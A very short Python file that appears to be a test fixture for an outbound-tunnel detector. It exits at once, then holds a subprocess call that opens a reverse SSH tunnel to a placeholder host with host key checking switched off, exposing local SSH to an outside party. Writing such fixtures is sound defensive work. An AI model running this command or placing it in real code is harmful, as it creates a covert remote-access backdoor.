raise SystemExit('a fixture')
# held by outbound-tunnel
import subprocess
subprocess.Popen(["ssh", "-o", "StrictHostKeyChecking=no", "-R", "2222:localhost:22", "tunnel@example.invalid", "-N"])
